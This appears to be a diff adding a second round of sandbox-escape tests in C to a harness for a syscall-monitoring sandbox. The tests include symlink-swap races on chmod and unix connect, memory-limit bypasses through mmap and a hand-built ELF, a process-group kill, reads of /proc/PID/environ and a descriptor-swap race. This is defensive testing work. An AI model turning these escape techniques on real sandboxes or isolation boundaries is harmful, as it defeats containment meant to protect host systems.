@@ -31,13 +31,39 @@
  *   proc-fd-listing                  /proc/self/fd shows the monitor's descriptors
  *   exec-fd-swap                     the exec loader's descriptor swapped
  *   rlimit-as                        the program's RLIMIT_AS starving the monitor
+ *
+ * Round 1 (a second white-box pass over the layered monitor):
+ *   fchmodat2-nofollow RO RW         fchmodat2(AT_SYMLINK_NOFOLLOW) checked on the link,
+ *                                    forwarded as fchmodat, which follows it
+ *   chmod-race RO RW                 chmod's final name swapped for a symlink after the
+ *                                    check (fchmodat follows it)
+ *   unix-connect-race RW SOCKET      a unix connect's final name swapped for a symlink to
+ *                                    a socket outside every tree after the check
+ *   group-kill                       kill(0) when the sandbox leads a process group that
+ *                                    also holds processes outside it (a shell pipeline)
+ *   autoreap-reuse                   children reaped by the kernel (SIGCHLD ignored) stay
+ *                                    "children" by pid: F_SETOWN and kill(-pid) reach
+ *                                    the process that reuses the pid
+ *   mmap-undercount LIMIT_MIB        mmap's limit check subtracts memory mapped below
+ *                                    the new length, wherever the kernel puts it
+ *   exec-bss RW LIMIT_MIB            execve's image is mapped without a limit check
+ *   udp-bind-race                    a sibling dissolves the socket's binding between
+ *                                    the implicit-bind check and sendto
+ *   proc-environ                     /proc/PID/environ and maps of a process outside
+ *   rename-whiteout RW               renameat2(RENAME_WHITEOUT) makes a device node
+ *   writable-walk-race RO RW         fchmod's check walks the path with descriptors no
+ *                                    pin protects: a sibling renumbers them
+ *   abstract-autobind                an autobound abstract unix socket in the host's
+ *                                    namespace, reachable from outside
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <dirent.h>
+#include <elf.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <netinet/in.h>
+#include <poll.h>
 #include <pthread.h>
 #include <setjmp.h>
 #include <signal.h>
@@ -54,8 +80,10 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/sysmacros.h>
 #include <sys/time.h>
 #include <sys/types.h>
+#include <sys/un.h>
 #include <sys/wait.h>
 #include <termios.h>
 #include <time.h>
@@ -726,6 +754,480 @@ static void rlimit_as(void) {
 	contained();
 }
 
+/* ==== round 1 ============================================================================ */
+
+static mode_t mode_of(const char *p) {
+	struct stat st;
+	return stat(p, &st) ? (mode_t)-1 : st.st_mode & 07777;
+}
+
+/* fchmodat2(dir, link, mode, AT_SYMLINK_NOFOLLOW): the monitor resolves the link
+ * itself (not followed), finds it in the writable tree, and calls fchmodat(dir,
+ * name, mode, 0), which follows the link. */
+static void fchmodat2_nofollow(const char *ro, const char *rw) {
+	char target[512], link[512];
+	snprintf(target, sizeof target, "%s/marker", ro);
+	snprintf(link, sizeof link, "%s/to-marker", rw);
+	mode_t before = mode_of(target);
+	if (symlink(target, link))
+		printf("symlink: %s\n", strerror(errno));
+	long r = syscall(452 /* fchmodat2 */, AT_FDCWD, link, 0606, AT_SYMLINK_NOFOLLOW);
+	printf("fchmodat2(NOFOLLOW) = %ld (%s)\n", r, r ? strerror(errno) : "ok");
+	mode_t after = mode_of(target);
+	if (after != before)
+		escaped("the read-only tree's %s changed mode from %o to %o", target, before, after);
+	contained();
+}
+
+/* A sibling exchanges two names in the writable tree, a plain file and a symlink
+ * out of it, while the first thread chmods the plain file's name. */
+static volatile int xchg_stop;
+static char xchg_a[512], xchg_b[512];
+static long xchg_rounds;
+
+static void *exchanger(void *arg) {
+	(void)arg;
+	while (!xchg_stop) {
+		syscall(SYS_renameat2, AT_FDCWD, xchg_a, AT_FDCWD, xchg_b, 2 /* RENAME_EXCHANGE */);
+		xchg_rounds++;
+	}
+	return NULL;
+}
+
+static void chmod_race(const char *ro, const char *rw) {
+	char target[512];
+	snprintf(target, sizeof target, "%s/marker", ro);
+	snprintf(xchg_a, sizeof xchg_a, "%s/plain", rw);
+	snprintf(xchg_b, sizeof xchg_b, "%s/link", rw);
+	close(open(xchg_a, O_CREAT | O_WRONLY, 0644));
+	if (symlink(target, xchg_b))
+		exit(2);
+	mode_t before = mode_of(target);
+	pthread_t t;
+	pthread_create(&t, NULL, exchanger, NULL);
+	int n = 0, denied = 0;
+	mode_t after = before;
+	for (double end = now() + 8; now() < end && after == before; n++) {
+		if (chmod(xchg_a, 0604))
+			denied++;
+		after = mode_of(target);
+	}
+	xchg_stop = 1;
+	pthread_join(t, NULL);
+	printf("%d chmods (%d failed), %ld exchanges\n", n, denied, xchg_rounds);
+	if (after != before)
+		escaped("chmod reached %s outside the writable tree: mode %o -> %o", target, before, after);
+	contained();
+}
+
+/* The same exchange under connect(2) on a unix socket path: the monitor checks the
+ * path, then hands the kernel /proc/self/fd/N/name, whose final name the kernel
+ * follows. SOCKET is outside every writable tree; the test listens there. */
+static void unix_connect_race(const char *rw, const char *outside) {
+	snprintf(xchg_a, sizeof xchg_a, "%s/sock", rw);
+	snprintf(xchg_b, sizeof xchg_b, "%s/link", rw);
+	close(open(xchg_a, O_CREAT | O_WRONLY, 0644));
+	if (symlink(outside, xchg_b))
+		exit(2);
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	if (strlen(xchg_a) >= sizeof sa.sun_path)
+		exit(2);
+	memcpy(sa.sun_path, xchg_a, strlen(xchg_a) + 1);
+	pthread_t t;
+	pthread_create(&t, NULL, exchanger, NULL);
+	int n = 0, refused = 0, denied = 0;
+	char got[64] = "";
+	for (double end = now() + 8; now() < end; n++) {
+		int s = socket(AF_UNIX, SOCK_STREAM, 0);
+		if (s < 0)
+			exit(2);
+		if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
+			struct pollfd p = { .fd = s, .events = POLLIN };
+			if (poll(&p, 1, 2000) == 1) {
+				ssize_t k = read(s, got, sizeof got - 1);
+				got[k > 0 ? k : 0] = 0;
+			}
+			close(s);
+			break;
+		}
+		if (errno == ECONNREFUSED)
+			refused++;
+		else
+			denied++;
+		close(s);
+	}
+	xchg_stop = 1;
+	pthread_join(t, NULL);
+	printf("%d connects (%d refused by the plain file, %d denied), %ld exchanges\n", n, refused, denied, xchg_rounds);
+	if (got[0]) {
+		got[strcspn(got, "\n")] = 0;
+		escaped("connected to the unix socket %s outside every tree; it said \"%s\"", outside, got);
+	}
+	contained();
+}
+
+/* Run as the leader of a process group that also holds a process outside the
+ * sandbox (the test puts one there, as a shell does with a pipeline). */
+static void group_kill(void) {
+	printf("ready pgrp %d pid %d\n", (int)getpgrp(), (int)getpid());
+	fflush(stdout);
+	char line[64];
+	if (!fgets(line, sizeof line, stdin))
+		exit(2);
+	signal(SIGTERM, SIG_IGN);
+	int r = kill(0, SIGTERM);
+	printf("kill(0, SIGTERM): %d (%s)\n", r, r ? strerror(errno) : "sent");
+	r = kill(-getpgrp(), SIGTERM);
+	printf("kill(-%d, SIGTERM): %d (%s)\n", (int)getpgrp(), r, r ? strerror(errno) : "sent");
+	fflush(stdout);
+	usleep(200 * 1000);
+	contained();
+}
+
+/* SIGCHLD ignored: the kernel reaps the child, the monitor never sees a wait. The
+ * test then has a process outside take the child's pid (and lead a group of that
+ * number); the program aims SIGIO at it with F_SETOWN, and kills its group. */
+static void autoreap_reuse(void) {
+	signal(SIGCHLD, SIG_IGN);
+	pid_t c = fork();
+	if (c == 0)
+		_exit(0);
+	for (int i = 0; i < 100 && waitpid(c, NULL, WNOHANG) >= 0; i++)
+		usleep(10 * 1000);
+	usleep(100 * 1000);
+	int r = kill(c, 0);
+	printf("reaped %d\n", (int)c);
+	fflush(stdout);
+	fprintf(stderr, "kill(%d, 0) after the kernel reaped it: %d (%s)\n", (int)c, r, r ? strerror(errno) : "exists");
+	char line[64];
+	if (!fgets(line, sizeof line, stdin))
+		exit(2);
+	int p[2];
+	if (pipe(p))
+		exit(2);
+	signal(SIGIO, SIG_IGN);
+	r = fcntl(p[0], F_SETOWN, c);
+	printf("F_SETOWN %d: %d (%s)\n", (int)c, r, r ? strerror(errno) : "set");
+	if (r == 0 && fcntl(p[0], F_SETFL, O_ASYNC) == 0 && write(p[1], "x", 1) == 1)
+		printf("SIGIO sent to the owner %d\n", (int)c);
+	r = kill(-c, SIGTERM);
+	printf("kill(-%d, SIGTERM): %d (%s)\n", (int)c, r, r ? strerror(errno) : "sent");
+	fflush(stdout);
+	usleep(200 * 1000);
+	contained();
+}
+
+/* Touches every page of [p, p+len). */
+static void touch(char *p, size_t len) {
+	for (size_t o = 0; o < len; o += 4096)
+		p[o] = 1;
+}
+
+/* Run under {"limits": {"memory": LIMIT_MIB MiB}}. check_limit(0, len) counts what
+ * is already accessible in [0, len) as if the new mapping covered it: memory mapped
+ * low in the address space is counted once for itself and subtracted again from
+ * every later mapping at least that long. */
+static void mmap_undercount(const char *limit_s) {
+	size_t limit = strtoul(limit_s, NULL, 0) << 20;
+	char *big = mmap(NULL, limit + (16 << 20), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	printf("a plain mmap of %zu MiB: %s\n", (limit >> 20) + 16, big == MAP_FAILED ? strerror(errno) : "mapped");
+	if (big != MAP_FAILED)
+		munmap(big, limit + (16 << 20));
+	char *low = MAP_FAILED;
+	size_t l;
+	for (l = limit - (4 << 20); l >= (4 << 20); l -= (2 << 20)) {
+		low = mmap((void *)0x10000, l, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+		if (low != MAP_FAILED)
+			break;
+	}
+	if (low == MAP_FAILED) {
+		printf("no low mapping: %s\n", strerror(errno));
+		contained();
+	}
+	size_t len = 0x10000 + l;
+	char *high = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	printf("low %zu MiB at %p, then %zu MiB: %s\n", l >> 20, (void *)low, len >> 20, high == MAP_FAILED ? strerror(errno) : "mapped");
+	if (high == MAP_FAILED)
+		contained();
+	touch(low, l);
+	touch(high, len);
+	size_t total = l + len;
+	if (total > limit)
+		escaped("touched %zu MiB of fresh memory under a limit of %zu MiB", total >> 20, limit >> 20);
+	contained();
+}
+
+/* A static ELF whose bss is `bss` bytes at 0x10000000; it touches every page and
+ * exits 42. */
+static int write_bss_elf(const char *path, uint64_t bss) {
+	unsigned char code[] = {
+		0x48, 0xbf, 0, 0, 0, 0x10, 0, 0, 0, 0, /* mov $0x10000000, %rdi */
+		0x48, 0xb9, 0, 0, 0, 0, 0, 0, 0, 0, /* mov $pages, %rcx */
+		0xc6, 0x07, 0x01, /* 1: movb $1, (%rdi) */
+		0x48, 0x81, 0xc7, 0x00, 0x10, 0x00, 0x00, /* add $4096, %rdi */
+		0x48, 0xff, 0xc9, /* dec %rcx */
+		0x75, 0xf1, /* jnz 1b */
+		0xbf, 0x2a, 0, 0, 0, /* mov $42, %edi */
+		0xb8, 0x3c, 0, 0, 0, /* mov $60, %eax (exit) */
+		0x0f, 0x05, /* syscall */
+	};
+	uint64_t pages = bss / 4096;
+	memcpy(code + 12, &pages, 8);
+	Elf64_Ehdr eh = { 0 };
+	Elf64_Phdr ph[2] = { { 0 } };
+	size_t size = sizeof eh + sizeof ph + sizeof code;
+	memcpy(eh.e_ident, ELFMAG, SELFMAG);
+	eh.e_ident[EI_CLASS] = ELFCLASS64;
+	eh.e_ident[EI_DATA] = ELFDATA2LSB;
+	eh.e_ident[EI_VERSION] = EV_CURRENT;
+	eh.e_type = ET_EXEC;
+	eh.e_machine = EM_X86_64;
+	eh.e_version = EV_CURRENT;
+	eh.e_entry = 0x400000 + sizeof eh + sizeof ph;
+	eh.e_phoff = sizeof eh;
+	eh.e_ehsize = sizeof eh;
+	eh.e_phentsize = sizeof ph[0];
+	eh.e_phnum = 2;
+	ph[0] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_offset = 0, .p_vaddr = 0x400000, .p_paddr = 0x400000, .p_filesz = size, .p_memsz = size, .p_align = 4096 };
+	ph[1] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_W, .p_offset = 0, .p_vaddr = 0x10000000, .p_paddr = 0x10000000, .p_filesz = 0, .p_memsz = bss, .p_align = 4096 };
+	int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0755);
+	if (fd < 0)
+		return -1;
+	int ok = write(fd, &eh, sizeof eh) == sizeof eh && write(fd, ph, sizeof ph) == sizeof ph && write(fd, code, sizeof code) == sizeof code;
+	close(fd);
+	return ok ? 0 : -1;
+}
+
+static void exec_bss(const char *rw, const char *limit_s) {
+	size_t limit = strtoul(limit_s, NULL, 0) << 20;
+	uint64_t bss = 2 * limit + (16 << 20);
+	char path[512];
+	snprintf(path, sizeof path, "%s/bss.elf", rw);
+	if (write_bss_elf(path, bss))
+		exit(2);
+	char *big = mmap(NULL, bss, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	printf("a plain mmap of %lu MiB: %s\n", (unsigned long)(bss >> 20), big == MAP_FAILED ? strerror(errno) : "mapped");
+	if (big != MAP_FAILED)
+		munmap(big, bss);
+	pid_t c = fork();
+	if (c < 0)
+		exit(2);
+	if (c == 0) {
+		execl(path, path, (char *)NULL);
+		_exit(3);
+	}
+	int st = 0;
+	waitpid(c, &st, 0);
+	printf("the image exited with status %#x\n", st);
+	if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
+		escaped("an image with %lu MiB of bss ran and touched every page under a limit of %zu MiB", (unsigned long)(bss >> 20), limit >> 20);
+	contained();
+}
+
+/* With --allow-net 127.0.0.1:9 (no bind rule for the wildcard): a UDP socket is
+ * connected to 127.0.0.1:9, so bound to 127.0.0.1 and a port; sendto sees a bound
+ * socket and passes. A sibling dissolves the association (connect AF_UNSPEC), which
+ * unbinds it; if that lands between the monitor's check and the kernel's sendto, the
+ * kernel binds the socket to 0.0.0.0 and a port of its choosing. */
+static volatile int ub_state, ub_stop;
+static int ub_sock;
+
+static void *ub_dissolver(void *a) {
+	(void)a;
+	struct sockaddr un = { .sa_family = AF_UNSPEC };
+	while (!ub_stop) {
+		if (ub_state == 1) {
+			connect(ub_sock, &un, sizeof un);
+			ub_state = 2;
+		}
+	}
+	return NULL;
+}
+
+static void udp_bind_race(void) {
+	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
+	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
+	pthread_t t;
+	pthread_create(&t, NULL, ub_dissolver, NULL);
+	int n = 0, sends = 0;
+	char a[64] = "";
+	int port = 0;
+	for (double end = now() + 8; now() < end; n++) {
+		int s = socket(AF_INET, SOCK_DGRAM, 0);
+		if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to))
+			exit(2);
+		ub_sock = s;
+		ub_state = 1;
+		while (ub_state != 2) {
+			sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
+			sends++;
+		}
+		port = port_of(s, a, sizeof a);
+		ub_state = 0;
+		if (port > 0 && !strcmp(a, "0.0.0.0"))
+			break;
+		close(s);
+	}
+	ub_stop = 1;
+	pthread_join(t, NULL);
+	printf("%d rounds, %d sends\n", n, sends);
+	if (port > 0 && !strcmp(a, "0.0.0.0"))
+		escaped("a UDP socket bound to %s:%d (the wildcard) with no bind rule for it", a, port);
+	contained();
+}
+
+/* The memory of a process outside the sandbox, through /proc. */
+static void proc_environ(void) {
+	char p[64];
+	int pids[2] = { 1, (int)getppid() };
+	const char *what[] = { "environ", "maps", "auxv" };
+	for (int i = 0; i < 2; i++) {
+		for (int k = 0; k < 3; k++) {
+			snprintf(p, sizeof p, "/proc/%d/%s", pids[i], what[k]);
+			int fd = open(p, O_RDONLY);
+			if (fd < 0) {
+				printf("open %s: %s\n", p, strerror(errno));
+				continue;
+			}
+			char buf[256];
+			ssize_t n = read(fd, buf, sizeof buf);
+			printf("read %s: %zd%s%s\n", p, n, n < 0 ? " " : "", n < 0 ? strerror(errno) : "");
+			close(fd);
+			if (n > 0)
+				escaped("read %zd bytes of %s, another process's memory", n, p);
+		}
+	}
+	contained();
+}
+
+static void rename_whiteout(const char *rw) {
+	char a[512], b[512];
+	snprintf(a, sizeof a, "%s/wo-a", rw);
+	snprintf(b, sizeof b, "%s/wo-b", rw);
+	close(open(a, O_CREAT | O_WRONLY, 0644));
+	long r = syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 4 /* RENAME_WHITEOUT */);
+	printf("renameat2(RENAME_WHITEOUT) = %ld (%s)\n", r, r ? strerror(errno) : "ok");
+	struct stat st;
+	if (lstat(a, &st) == 0 && S_ISCHR(st.st_mode))
+		escaped("a character device %u:%u appeared at %s", major(st.st_rdev), minor(st.st_rdev), a);
+	contained();
+}
+
+/* fchmod's check (fds::writable) resolves the descriptor's path (as /proc/self/fd
+ * shows it) with the walk, whose descriptors are born at low numbers, without the
+ * pin the path calls hold. The walk's first descriptor is its root (a duplicate of
+ * the tree "/", at 3: the program keeps 3 free). A sibling replaces it with an O_PATH
+ * descriptor of a directory "fake" in the writable tree that mirrors the file's
+ * path, the last directory of which is a symlink into the writable tree: the walk
+ * splices the link, decides on a writable path, and fchmod then acts on the
+ * read-only file's descriptor. (The lane chroots into /host, where /proc/self/fd
+ * shows /host/...: the mirror is made with and without that prefix.) */
+static volatile int ww_stop;
+static int ww_fake;
+static long ww_swaps;
+
+static void *ww_flooder(void *a) {
+	(void)a;
+	while (!ww_stop)
+		if (fcntl(3, F_GETFD) >= 0 && dup2(ww_fake, 3) == 3)
+			ww_swaps++;
+	return NULL;
+}
+
+static int move_high(int fd, int to) {
+	int h = fcntl(fd, F_DUPFD, to);
+	close(fd);
+	return h;
+}
+
+static void mkdirs(char *p) {
+	for (char *q = p + 1; *q; q++)
+		if (*q == '/') {
+			*q = 0;
+			mkdir(p, 0755);
+			*q = '/';
+		}
+	mkdir(p, 0755);
+}
+
+static void writable_walk_race(const char *ro, const char *rw) {
+	char target[512], p[1024], dest[512], fake[512];
+	snprintf(target, sizeof target, "%s/marker", ro);
+	snprintf(dest, sizeof dest, "%s/target", rw);
+	snprintf(fake, sizeof fake, "%s/fake", rw);
+	mkdir(dest, 0755);
+	const char *prefixes[] = { "", "/host" };
+	for (int i = 0; i < 2; i++) {
+		snprintf(p, sizeof p, "%s%s%s", fake, prefixes[i], ro);
+		mkdirs(p);
+		rmdir(p);
+		if (symlink(dest, p))
+			exit(2);
+	}
+	ww_fake = move_high(open(fake, O_PATH | O_DIRECTORY), 101);
+	int victim = move_high(open(target, O_RDONLY), 100);
+	if (ww_fake < 0 || victim < 0)
+		exit(2);
+	for (int k = 3; k < 100; k++)
+		close(k);
+	struct stat st;
+	fstat(victim, &st);
+	mode_t before = st.st_mode & 07777;
+	pthread_t t;
+	pthread_create(&t, NULL, ww_flooder, NULL);
+	int n = 0, denied = 0;
+	mode_t after = before;
+	for (double end = now() + 8; now() < end && after == before; n++) {
+		/* A replacement that landed after a walk ended stays at 3: free it. */
+		close(3);
+		if (fchmod(victim, 0606))
+			denied++;
+		fstat(victim, &st);
+		after = st.st_mode & 07777;
+	}
+	ww_stop = 1;
+	pthread_join(t, NULL);
+	printf("%d fchmods (%d denied), %ld descriptors replaced\n", n, denied, ww_swaps);
+	if (after != before)
+		escaped("fchmod changed %s, outside the writable tree, from %o to %o", target, before, after);
+	contained();
+}
+
+/* With --allow-net 127.0.0.1:9 the sandbox shares the host's network namespace, and
+ * so its abstract unix names. Autobind is allowed; the test connects from outside. */
+static void abstract_autobind(void) {
+	int s = socket(AF_UNIX, SOCK_STREAM, 0);
+	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	if (bind(s, (struct sockaddr *)&sa, sizeof(sa_family_t))) {
+		printf("autobind: %s\n", strerror(errno));
+		contained();
+	}
+	socklen_t l = sizeof sa;
+	getsockname(s, (struct sockaddr *)&sa, &l);
+	if (listen(s, 1)) {
+		printf("listen: %s\n", strerror(errno));
+		contained();
+	}
+	int n = l - sizeof(sa_family_t) - 1;
+	printf("abstract %.*s\n", n > 0 ? n : 0, sa.sun_path + 1);
+	fflush(stdout);
+	struct pollfd p = { .fd = s, .events = POLLIN };
+	if (poll(&p, 1, 5000) == 1) {
+		int c = accept(s, NULL, NULL);
+		char got[64] = "";
+		if (c >= 0) {
+			struct pollfd q = { .fd = c, .events = POLLIN };
+			if (poll(&q, 1, 2000) == 1) {
+				ssize_t k = read(c, got, sizeof got - 1);
+				got[k > 0 ? k : 0] = 0;
+			}
+			got[strcspn(got, "\n")] = 0;
+			escaped("a process outside connected to the autobound abstract socket @%.*s and said \"%s\"", n > 0 ? n : 0, sa.sun_path + 1, got);
+		}
+	}
+	contained();
+}
+
 int main(int argc, char **argv) {
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc < 2) {
@@ -771,6 +1273,31 @@ int main(int argc, char **argv) {
 		need(argc, 3), exec_fd_swap(argv[2]);
 	else if (!strcmp(name, "rlimit-as"))
 		rlimit_as();
+	/* round 1 */
+	else if (!strcmp(name, "fchmodat2-nofollow"))
+		need(argc, 4), fchmodat2_nofollow(argv[2], argv[3]);
+	else if (!strcmp(name, "chmod-race"))
+		need(argc, 4), chmod_race(argv[2], argv[3]);
+	else if (!strcmp(name, "unix-connect-race"))
+		need(argc, 4), unix_connect_race(argv[2], argv[3]);
+	else if (!strcmp(name, "group-kill"))
+		group_kill();
+	else if (!strcmp(name, "autoreap-reuse"))
+		autoreap_reuse();
+	else if (!strcmp(name, "mmap-undercount"))
+		need(argc, 3), mmap_undercount(argv[2]);
+	else if (!strcmp(name, "exec-bss"))
+		need(argc, 4), exec_bss(argv[2], argv[3]);
+	else if (!strcmp(name, "udp-bind-race"))
+		udp_bind_race();
+	else if (!strcmp(name, "proc-environ"))
+		proc_environ();
+	else if (!strcmp(name, "rename-whiteout"))
+		need(argc, 3), rename_whiteout(argv[2]);
+	else if (!strcmp(name, "writable-walk-race"))
+		need(argc, 4), writable_walk_race(argv[2], argv[3]);
+	else if (!strcmp(name, "abstract-autobind"))
+		abstract_autobind();
 	fprintf(stderr, "unknown attack %s\n", name);
 	return 2;
 }
